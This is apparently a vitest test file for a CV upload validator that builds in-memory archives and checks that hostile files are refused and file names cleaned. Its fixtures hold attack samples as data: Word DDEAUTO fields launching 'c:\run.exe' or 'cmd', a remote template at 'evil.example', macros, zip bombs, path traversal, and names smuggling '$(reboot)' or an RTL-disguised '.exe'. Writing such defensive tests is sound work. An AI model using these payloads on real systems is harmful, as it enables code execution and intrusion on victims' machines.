import { deflateRawSync } from 'node:zlib'
import { expect, it } from 'vitest'
import { smallPdf } from '../../../test/support/small-pdf.ts'
import { checkCv } from './check-cv.ts'

/** Returns an archive with files of these names, empty or with a text. */
function archive(...parts: (string | [name: string, text: string])[]): Buffer {
  let at = 0
  const directory: Buffer[] = []
  const files = parts.map((part) => {
    const [name, text] = typeof part === 'string' ? [part, ''] : part
    const packed = deflateRawSync(text)
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(8, 8)
    local.writeUInt32LE(packed.length, 18)
    local.writeUInt16LE(Buffer.byteLength(name), 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(8, 10)
    entry.writeUInt32LE(packed.length, 20)
    entry.writeUInt16LE(Buffer.byteLength(name), 28)
    entry.writeUInt32LE(at, 42)
    directory.push(entry, Buffer.from(name))
    const file = Buffer.concat([local, Buffer.from(name), packed])
    at += file.length
    return file
  })
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(parts.length, 10)
  end.writeUInt32LE(at, 16)
  return Buffer.concat([...files, ...directory, end])
}

const documentOf = (inside = ''): [string, string] => [
  'word/document.xml',
  `<w:document><w:body>${inside}</w:body></w:document>`,
]
const types = '[Content_Types].xml'
const word = [types, documentOf()]
const pdf = smallPdf()
const check = (content: Buffer, name = 'cv.pdf') =>
  checkCv({ name, base64: content.toString('base64') }).name
const fieldOf = (content: Buffer) => {
  try {
    return check(content)
  } catch (error) {
    return error instanceof Error && 'fields' in error ? error.fields : error
  }
}

it('what a CV is, its content says', () => {
  expect(check(pdf, 'cv.docx')).toBe('cv.pdf')
  expect(check(archive(...word), 'cv.pdf')).toBe('cv.docx')
})

/** Returns what a document refers to outside. */
function relations(kind: string, target: string): [string, string] {
  const type = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}`
  return [
    'word/_rels/document.xml.rels',
    `<Relationships><Relationship Id="a" Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  ]
}

it('a Word document may link to pages, and say what programs do', () => {
  const linked = archive(
    types,
    documentOf('<w:t>DDE, DDEAUTO</w:t><w:instrText> PAGE </w:instrText>'),
    relations('hyperlink', 'https://dara.example'),
  )
  expect(check(linked, 'cv.docx')).toBe('cv.docx')
})

const cut = archive(...word)
it.each<[string, Buffer]>([
  ['a script', Buffer.from('#!/bin/sh\necho %PDF-1.4 %%EOF')],
  ['a page', Buffer.from('<html><!-- %PDF-1.4 %%EOF --><script>alert(1)</script>')],
  ['a PDF that was cut off', pdf.subarray(0, 9)],
  ['a program', Buffer.from('MZ\x90\x00 %PDF-1.4 %%EOF')],
  ['another archive', archive('readme.txt')],
  ['a workbook', archive('[Content_Types].xml', 'xl/workbook.xml')],
  ['a document with macros', archive(...word, 'word/vbaProject.bin')],
  [
    'a document with a template from elsewhere',
    archive(...word, relations('attachedTemplate', 'http://evil.example/x.dotm')),
  ],
  [
    'a document whose list of parts can’t be read',
    archive(...word, ['word/_rels/settings.xml.rels', ' '.repeat(20_000_000)]),
  ],
  [
    'a document that says it has macros',
    archive(documentOf(), [
      types,
      '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    ]),
  ],
  ['a document that is none', archive(types, 'word/document.xml')],
  [
    'a bomb of many parts',
    archive(
      ...word,
      ...Array.from({ length: 20 }, (_, index): [string, string] => [
        `word/_rels/${index}.rels`,
        ' '.repeat(1_000_000),
      ]),
    ),
  ],
  [
    'a document that starts a program',
    archive(
      types,
      documentOf(
        '<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\run.exe</w:instrText>',
      ),
    ),
  ],
  [
    'a note that starts a program',
    archive(...word, ['word/footnotes.xml', '<w:fldSimple w:instr=" dde cmd "/>']),
  ],
  ['a document with a file outside', archive(...word, '../../tmp/run')],
  ['an archive that was cut off', cut.subarray(0, cut.length - 10)],
  [
    'an archive that says it has more',
    Buffer.concat([cut.subarray(0, -12), Buffer.from([9, 0]), cut.subarray(-10)]),
  ],
  [
    'a directory beyond the end',
    Buffer.concat([cut.subarray(0, -6), Buffer.from([255, 255, 255, 127, 0, 0])]),
  ],
])('%s is refused', (_, content) => expect(fieldOf(content)).toEqual({ cv: 'type' }))

it('an empty file is none', () => expect(fieldOf(Buffer.alloc(0))).toEqual({ cv: 'missing' }))

it.each([
  ['../../etc/passwd.pdf', 'passwd.pdf'],
  ['C:\\Users\\dara\\Lebenslauf (2).docx', 'Lebenslauf 2.pdf'],
  ['-rf.pdf', 'rf.pdf'],
  ['$(reboot);"<b>.pdf', 'reboot b.pdf'],
  ['ประวัติ.pdf', 'ประวัติ.pdf'],
  ['.pdf', 'cv.pdf'],
  ['\u202Efdp.exe', 'fdp.pdf'],
  [`${'x'.repeat(300)}.pdf`, `${'x'.repeat(80)}.pdf`],
])('the name %j is kept as %j', (name, kept) => expect(check(pdf, name)).toBe(kept))
